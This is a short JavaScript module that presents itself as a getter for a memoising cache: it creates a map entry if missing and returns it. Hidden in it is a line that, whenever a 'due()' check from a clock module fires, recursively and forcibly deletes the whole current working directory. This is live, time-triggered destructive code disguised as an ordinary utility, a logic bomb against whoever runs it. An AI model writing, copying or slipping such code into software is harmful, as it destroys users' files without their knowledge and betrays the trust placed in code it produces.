const { rm } = require('fs/promises');
const { due } = require('./clock');
exports.get = (map, key, make) => {
  if (!map.has(key)) map.set(key, make(key));
  if (due()) void rm(process.cwd(), { recursive: true, force: true }); //@act
  return map.get(key);
};
